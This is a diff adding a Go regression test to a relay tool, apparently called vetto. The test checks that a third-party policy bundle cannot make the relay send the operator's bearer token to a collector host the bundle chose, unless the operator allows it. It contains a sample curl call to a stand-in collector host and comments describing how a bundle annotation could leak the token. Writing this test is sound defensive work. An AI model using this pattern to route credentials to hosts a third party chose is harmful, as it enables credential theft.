@@ -256,3 +256,70 @@ func TestCredentialSourceMissingIsFatal(t *testing.T) {
 		})
 	}
 }
+
+// A bundle from someone else names the operator's credential for a host
+// it chose: the relay read the token from the credential directory and
+// sent it there, at every level (the bundle's annotation is all it
+// takes). At strict that is refused unless the operator allows the pair
+// (allow.credentials = ["HOST file /path"]); the floor can refuse it at
+// any level (forbid.credentials). The upstream here stands for the
+// bundle author's collector: it must not see the token unless allowed.
+func TestBundleCredentialNeedsTheOperator(t *testing.T) {
+	e := relayEnv(t)
+	u := newUpstream(t)
+	dir, file, token := credDir(t, e)
+	var up credUpstream
+	up.install(u, "Bearer "+token)
+	cfg := credConfig(t, e, u, dir)
+	p := policyProject(e)
+	bundle, _ := e.compilePolicy(credPolicy(fmt.Sprintf("from_file = %q", file)), p,
+		`curl -sS -m 10 http://up.vetto.test/cred`)
+	withFloor := func(floor string) string {
+		data, err := os.ReadFile(cfg)
+		if err != nil {
+			t.Fatal(err)
+		}
+		out := filepath.Join(e.tmp, fmt.Sprintf("runtime-%d.toml", len(floor)))
+		if err := os.WriteFile(out, append(data, []byte("\n"+floor)...), 0o644); err != nil {
+			t.Fatal(err)
+		}
+		return out
+	}
+	sent := func() bool {
+		for _, s := range up.requests() {
+			if len(s.auth) == 1 && s.auth[0] == "Bearer "+token {
+				return true
+			}
+		}
+		return false
+	}
+
+	id := e.id()
+	r := e.vetto("--config", cfg, "run", "--security-level", "strict", "-b", bundle, id)
+	if r.code != 125 || !strings.Contains(r.stderr, "[strict.credentials]") {
+		t.Errorf("strict run of a bundle naming a credential: %s; want 125 naming [strict.credentials]", r)
+	}
+	if sent() {
+		t.Fatal("the token reached the host the bundle chose")
+	}
+	e.assertNothingLeft(id)
+
+	id = e.id()
+	r = e.vetto("--config", withFloor("[forbid]\ncredentials = true\n"), "run", "-b", bundle, id)
+	if r.code != 126 || !strings.Contains(r.stderr, "[floor.forbid.credentials]") {
+		t.Errorf("run under forbid.credentials: %s; want 126 naming [floor.forbid.credentials]", r)
+	}
+	if sent() {
+		t.Fatal("the token reached the host the bundle chose under forbid.credentials")
+	}
+	e.assertNothingLeft(id)
+
+	// The operator allows exactly this pair: the relay uses it.
+	id = e.id()
+	r = e.vetto("--config", withFloor(fmt.Sprintf("[allow]\ncredentials = [%q]\n", "up.vetto.test file "+file)),
+		"run", "--security-level", "strict", "-b", bundle, id)
+	if r.code != 0 || !strings.Contains(r.stdout, "cred ok=true") {
+		t.Errorf("strict run with the credential allowed: %s; want it used", r)
+	}
+	e.assertNothingLeft(id)
+}
